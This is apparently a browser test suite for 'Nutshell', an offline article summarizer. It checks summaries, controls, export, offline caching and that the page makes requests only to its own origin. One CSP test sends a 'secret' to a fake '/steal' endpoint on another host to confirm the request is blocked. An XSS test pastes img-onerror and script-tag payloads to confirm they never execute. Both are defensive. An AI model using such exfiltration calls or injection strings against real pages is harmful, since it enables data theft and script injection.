// The Nutshell page in headless Chromium: paste an article, read the summary, change the length
// and the language, copy, reload, clear; and check that the page asks nothing of anyone but its
// own origin. Entities are not asserted beyond their shape: they are being built elsewhere.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { watch, openNutshell, summaryOf, fixture, squash, CSP, waitReady, useNutshell } from './helpers.mjs';

const ARTICLE = fixture('nvidia-europe-fr.txt');
let browser;
let site;
useNutshell((b, s) => {
  browser = b;
  site = s;
});

/** A fresh context (empty storage) with watchers; the page has the article pasted. */
async function withArticle(t, text = ARTICLE) {
  const context = await browser.newContext();
  t.after(() => context.close());
  const watched = watch(context, site.origin);
  const page = await openNutshell(context, site.origin);
  await page.fill('#text', text);
  await page.waitForSelector('#summary li');
  return { context, page, ...watched };
}

/** The engine's own answer, called in the page (the module engine.js has loaded), with the text's
 * entity model loaded first, as the page's engine loads it before analysing. */
const engine = (page, fn, ...args) =>
  page.evaluate(
    async ([fn, args]) => {
      const pkg = await import('./pkg/nutshell.js');
      const lang = pkg.detectLanguage(args[0], args[1] ?? {});
      if (lang !== 'und' && !pkg.hasEntityModel(lang)) {
        const res = await fetch(`models/entities-${lang}.bin`);
        pkg.loadEntityModel(lang, new Uint8Array(await res.arrayBuffer()));
      }
      return pkg[fn](...args);
    },
    [fn, args],
  );

test('a pasted French article gets a summary, its language, highlights; only own files are loaded', async (t) => {
  const { page, errors, requests } = await withArticle(t);

  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.equal(csp, CSP);

  const summary = await summaryOf(page);
  assert.ok(summary.length >= 1, 'a summary');
  const article = squash(ARTICLE);
  for (const s of summary) {
    assert.ok(s.trim().length > 20, `a real sentence: ${s}`);
    assert.ok(article.includes(squash(s)), `summary sentence from the article: ${s}`);
  }
  assert.equal(await page.textContent('#language'), 'fr');
  assert.match(await page.textContent('#took'), /^analysed in \d+(\.\d)? ms$/);
  // The summary's words are the engine's count (the unit of its `words` option).
  const r = await engine(page, 'analyze', ARTICLE, {});
  const words = r.summary.reduce((n, i) => n + r.sentences[i].words, 0);
  assert.match(await page.textContent('#stats'), new RegExp(` · ${words} words · `));

  // The article view highlights exactly the summary sentences, and shades the others.
  const highlighted = await page.$$eval('#article .s.in-summary', (els) => els.map((e) => e.textContent));
  assert.deepEqual(highlighted.map(squash), summary.map(squash));
  assert.ok((await page.$$('#article .s[class*="sal-"]')).length > 5, 'other sentences are shaded');
  const shown = squash(await page.textContent('#article'));
  assert.ok(shown.includes('Jensen Huang devant une salle comble'), 'the whole article is shown');

  assert.deepEqual(errors, []);
  assert.ok(requests.some((u) => u.endsWith('/pkg/nutshell_bg.wasm')), 'requests are being recorded');
  const foreign = requests.filter((u) => new URL(u).origin !== site.origin);
  assert.deepEqual(foreign, [], 'every request goes to the page’s own origin');
});

test('the page’s CSP really blocks requests to another origin', async (t) => {
  const context = await browser.newContext();
  t.after(() => context.close());
  const page = await openNutshell(context, site.origin);
  const outcome = await page.evaluate(async () => {
    const violation = new Promise((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true }),
    );
    try {
      await fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'secret' });
      return 'sent';
    } catch {
      return `blocked by ${await violation}`;
    }
  });
  assert.equal(outcome, 'blocked by connect-src');
});

test('the length control changes the summary at once, by sentences and by words', async (t) => {
  const { page, errors } = await withArticle(t);
  await page.selectOption('#unit', 'sentences');
  await page.focus('#length');
  await page.keyboard.press('Home');
  await page.waitForFunction(() => document.querySelectorAll('#summary li').length === 1);
  for (let i = 0; i < 4; i++) await page.keyboard.press('ArrowRight');
  await page.waitForFunction(() => document.querySelectorAll('#summary li').length === 5);
  assert.equal(await page.textContent('#length-out'), '5 sentences');
  assert.equal(await page.$$eval('#article .s.in-summary', (e) => e.length), 5);

  await page.selectOption('#unit', 'words');
  await page.focus('#length');
  await page.keyboard.press('Home'); // 10 words: still one sentence
  await page.waitForFunction(() => document.querySelectorAll('#summary li').length === 1);
  await page.keyboard.press('End'); // 1000 words: the most
  await page.waitForFunction(() => document.querySelectorAll('#summary li').length > 5);
  assert.equal(await page.textContent('#length-out'), '1000 words');
  assert.deepEqual(errors, []);
});

test('the language can be overridden', async (t) => {
  const { page } = await withArticle(t);
  await page.selectOption('#lang', 'en');
  await page.waitForFunction(() => document.getElementById('language').textContent === 'en');
  assert.match(await page.textContent('#stats'), /\(chosen\)/);
  await page.selectOption('#lang', '');
  await page.waitForFunction(() => document.getElementById('language').textContent === 'fr');
});

test('the text survives a reload until Clear', async (t) => {
  const { page } = await withArticle(t);
  const before = await summaryOf(page);
  await page.waitForTimeout(300); // the save is debounced with the analysis
  await page.reload();
  await waitReady(page);
  await page.waitForSelector('#summary li');
  assert.equal(await page.inputValue('#text'), ARTICLE);
  assert.deepEqual(await summaryOf(page), before);

  await page.click('#clear');
  assert.equal(await page.inputValue('#text'), '');
  assert.equal(await page.isHidden('#results'), true);
  await page.reload();
  await waitReady(page);
  assert.equal(await page.inputValue('#text'), '');
  assert.equal(await page.isHidden('#results'), true);
});

test('after a reload, the restored text shows its summary first, then the names and the rest', async (t) => {
  const { page } = await withArticle(t);
  const whole = await summaryOf(page);
  await page.waitForTimeout(300); // the save is debounced with the analysis
  // What the results show at each step of the next load.
  await page.addInitScript(() => {
    window.__steps = [];
    new MutationObserver(() => {
      const step = document.getElementById('results').dataset.result;
      if (window.__steps.at(-1)?.step === step) return;
      if (step === 'summary') window.__firstItem = document.querySelector('#summary li');
      window.__steps.push({
        step,
        summary: [...document.querySelectorAll('#summary li .sentence')].map((e) => e.textContent),
        names: document.querySelectorAll('#entities button').length,
        busy: document.getElementById('entities').getAttribute('aria-busy'),
        highlighted: document.querySelectorAll('#article .in-summary').length,
      });
    }).observe(document, { subtree: true, attributes: true, attributeFilter: ['data-result'] });
  });
  await page.reload();
  await page.waitForSelector('#results[data-result="whole"]');
  const steps = await page.evaluate(() => window.__steps);
  assert.deepEqual(
    steps.map((s) => s.step),
    ['summary', 'whole'],
  );
  const [first, then] = steps;
  assert.deepEqual(first.summary, whole, 'the first summary is the whole analysis’ summary');
  assert.equal(first.highlighted, whole.length, 'the article is shown with the summary marked');
  assert.equal(first.names, 0);
  assert.equal(first.busy, 'true', 'the names panel says it is busy');
  assert.deepEqual(then.summary, whole);
  assert.ok(then.names > 0, 'then the names');
  assert.equal(then.busy, 'false');
  assert.ok(
    await page.evaluate(() => document.querySelector('#summary li') === window.__firstItem),
    'the summary items shown first stay (not built again)',
  );
  // Later analyses come whole at once.
  await page.selectOption('#unit', 'sentences');
  await page.waitForFunction(() => document.querySelectorAll('#summary li').length === 3);
  assert.equal(await page.evaluate(() => window.__steps.length), 2);
});

test('copy as Markdown gives the engine’s export: the summary with [§n] references', async (t) => {
  const { context, page } = await withArticle(t);
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: site.origin });
  await page.click('#copy-md');
  await page.waitForFunction(() => /Markdown/.test(document.getElementById('copied').textContent));
  const md = await page.evaluate(() => navigator.clipboard.readText());
  assert.equal(md, await engine(page, 'exportMarkdown', ARTICLE, {}));
  const refs = await page.$$eval('#summary .ref', (as) => as.map((a) => a.textContent));
  // The summary's items come before the export's first section (## Entities, …).
  const items = md.split('\n## ')[0].split('\n').filter((l) => l.startsWith('- '));
  assert.equal(items.length, refs.length);
  items.forEach((line, k) => assert.ok(line.endsWith(` [${refs[k]}]`), line));
  await page.click('#copy-text');
  await page.waitForFunction(() => /text/.test(document.getElementById('copied').textContent));
  const text = await page.evaluate(() => navigator.clipboard.readText());
  assert.equal(text.split('\n').length, refs.length);
  assert.ok(!text.includes('§'));
});

test('a summary reference explains its sentence', async (t) => {
  const { page } = await withArticle(t);
  const first = (await summaryOf(page))[0];
  await page.click('#summary .ref');
  await page.waitForSelector('#why:not([hidden])');
  assert.ok((await page.textContent('#why-text')).includes(first.trim()));
  // The overall score, the text's start, and the nine parts of the model (largest first).
  assert.equal(await page.$$eval('#why-parts meter', (m) => m.length), 11);
  const shown = await page.$$eval('#why-parts dd', (d) => d.slice(2).map((x) => Math.abs(Number(x.textContent.trim().split(' ')[0].replace('−', '-')))));
  assert.deepEqual(shown, [...shown].sort((a, b) => b - a), 'parts are shown largest first');
  assert.equal(await page.$$eval('#article .s.explained', (e) => e.length), 1);
  await page.click('#why-close');
  assert.equal(await page.isHidden('#why'), true);
  assert.equal(await page.$$eval('#article .s.explained', (e) => e.length), 0);
});

test('every control has a label and is reached with the keyboard', async (t) => {
  const { page } = await withArticle(t);
  const unlabelled = await page.$$eval('input, select, textarea, button', (els) =>
    els
      .filter((e) => !(e.labels && e.labels.length) && !e.getAttribute('aria-label') && !e.textContent.trim())
      .map((e) => e.outerHTML),
  );
  assert.deepEqual(unlabelled, []);
  await page.focus('body');
  const reached = new Set();
  const wanted = ['text', 'file', 'clear', 'unit', 'length', 'lang', 'copy-text', 'copy-md', 'bookmarklet'];
  // Tab through the whole page (it wraps around), however many links the results hold.
  for (let i = 0; i < 200 && !wanted.every((id) => reached.has(id)); i++) {
    await page.keyboard.press('Tab');
    reached.add(await page.evaluate(() => document.activeElement.id || document.activeElement.className));
  }
  for (const id of wanted) {
    assert.ok(reached.has(id), `#${id} is reached with Tab`);
  }
});

test('names can be selected to highlight their mentions', async (t) => {
  const { page } = await withArticle(t);
  const count = await page.$$eval('#entities button.entity', (b) => b.length);
  if (count === 0) {
    t.skip('the engine finds no names yet');
    return;
  }
  const button = page.locator('#entities button.entity').first();
  const mentions = Number((await button.locator('.count').textContent()).trim());
  await button.click();
  assert.equal(await button.getAttribute('aria-pressed'), 'true');
  assert.ok((await page.$$('#article mark.mention')).length >= 1);
  assert.ok((await page.$$('#article mark.mention')).length <= mentions);
  await button.click();
  assert.equal((await page.$$('#article mark.mention')).length, 0);
});

test('article text is never interpreted as HTML', async (t) => {
  const hostile =
    'Le <img src=x onerror="window.pwned=1"> conseil municipal a voté le budget hier soir après un long débat. ' +
    'Les élus de <b>l’opposition</b> ont demandé <script>window.pwned=2</script> un nouveau vote la semaine prochaine. ' +
    'Le maire a rappelé que les travaux de la place centrale commenceront au printemps.';
  const { page, errors } = await withArticle(t, hostile);
  assert.equal(await page.$$eval('#results img, #results b, #results script', (e) => e.length), 0);
  assert.ok((await page.textContent('#article')).includes('<img src=x onerror="window.pwned=1">'));
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  assert.deepEqual(errors, []);
});

test('an .html file goes through article extraction', async (t) => {
  const context = await browser.newContext();
  t.after(() => context.close());
  const { errors } = watch(context, site.origin);
  const page = await openNutshell(context, site.origin);
  await page.setInputFiles('#file', {
    name: 'article.html',
    mimeType: 'text/html',
    buffer: Buffer.from(fixture('news-fr.html')),
  });
  await page.waitForSelector('#summary li');
  const text = await page.inputValue('#text');
  assert.ok(!/<\/?(p|h1|article)\b/.test(text), 'the markup is gone');
  assert.ok(text.includes('Tour de France'), 'the article text is there');
  assert.equal(await page.textContent('#source'), 'From article.html');
  assert.deepEqual(errors, []);
});

test('once loaded, the page works offline', { timeout: 30000 }, async (t) => {
  const context = await browser.newContext();
  t.after(() => context.close());
  const page = await openNutshell(context, site.origin);
  await page.evaluate(async () => {
    const reg = await navigator.serviceWorker.ready;
    // Wait until the worker has cached the files (install finished and it controls the page).
    if (!navigator.serviceWorker.controller) {
      await new Promise((r) => navigator.serviceWorker.addEventListener('controllerchange', r, { once: true }));
    }
    return reg.active.state;
  });
  await context.setOffline(true);
  await page.reload();
  await waitReady(page);
  await page.fill('#text', ARTICLE);
  await page.waitForSelector('#summary li');
  assert.equal(await page.textContent('#language'), 'fr');
});

/** Records the entity models the page asks for, by path: the page's and its workers' requests,
 * not the service worker's (which passes each on to the network, and is seen again). */
function modelRequests(context) {
  const asked = [];
  context.on('request', (r) => {
    const p = new URL(r.url()).pathname;
    if (p.startsWith('/models/') && !r.serviceWorker()) asked.push(p);
  });
  return asked;
}

test('a French article fetches exactly one entity model, the French one, and its names appear', async (t) => {
  const context = await browser.newContext();
  t.after(() => context.close());
  const { errors } = watch(context, site.origin);
  const asked = modelRequests(context);
  const page = await openNutshell(context, site.origin);
  await page.fill('#text', ARTICLE);
  await page.waitForFunction(() => document.querySelectorAll('#entities button.entity').length > 0);
  const names = await page.$$eval('#entities button.entity', (b) => b.map((e) => e.textContent));
  assert.ok(names.some((n) => n.includes('Jensen Huang')), `the model's names: ${names.join(', ')}`);
  // Once the worker is running, the next analyses there use the same model, not a second fetch.
  await page.waitForFunction(() => document.documentElement.dataset.engine === 'worker');
  await page.fill('#text', `${ARTICLE}\n\nMistral AI et Numeum ont répondu à Paris.`);
  await page.waitForFunction(() => document.querySelectorAll('#entities button.entity').length > 0);
  await page.fill('#text', ARTICLE.repeat(12));
  await page.waitForFunction(() => document.querySelectorAll('#entities button.entity').length > 0);
  assert.deepEqual(asked, ['/models/entities-fr.bin']);
  assert.deepEqual(errors, []);
});

test('without its entity model (offline, not cached) the analysis still runs, on the rules', async (t) => {
  const context = await browser.newContext();
  t.after(() => context.close());
  await context.route('**/models/**', (route) => route.abort('internetdisconnected'));
  const asked = modelRequests(context);
  const failures = [];
  context.on('page', (p) => p.on('pageerror', (e) => failures.push(e.message)));
  const page = await openNutshell(context, site.origin);
  page.on('pageerror', (e) => failures.push(e.message));
  await page.fill('#text', ARTICLE);
  await page.waitForSelector('#summary li');
  await page.waitForFunction(() => document.querySelectorAll('#entities button.entity').length > 0);
  assert.equal(await page.textContent('#language'), 'fr');
  assert.deepEqual(asked, ['/models/entities-fr.bin'], 'asked for once, not again and again');
  assert.deepEqual(failures, []);
});

test('a model fetched once is there offline; one never fetched is not, and the rules do the work', { timeout: 30000 }, async (t) => {
  const context = await browser.newContext();
  t.after(() => context.close());
  const page = await openNutshell(context, site.origin);
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
    if (!navigator.serviceWorker.controller) {
      await new Promise((r) => navigator.serviceWorker.addEventListener('controllerchange', r, { once: true }));
    }
  });
  await page.fill('#text', ARTICLE);
  await page.waitForFunction(() => document.querySelectorAll('#entities button.entity').length > 0);
  // The service worker kept the French model (and no other) in its own cache.
  const kept = await page.evaluate(async () => {
    for (;;) {
      const keys = await (await caches.open('nutshell-models')).keys();
      if (keys.length) return keys.map((r) => new URL(r.url).pathname);
      await new Promise((r) => setTimeout(r, 100));
    }
  });
  assert.deepEqual(kept, ['/models/entities-fr.bin']);
  await context.setOffline(true);
  const offline = await page.evaluate(async () =>
    Promise.all(['fr', 'de'].map((l) => fetch(`./models/entities-${l}.bin`).then((r) => r.ok, () => false))),
  );
  assert.deepEqual(offline, [true, false]);
  // A reload offline: the French article gets its names again.
  await page.reload();
  await waitReady(page);
  await page.fill('#text', ARTICLE);
  await page.waitForFunction(() => document.querySelectorAll('#entities button.entity').length > 0);
});
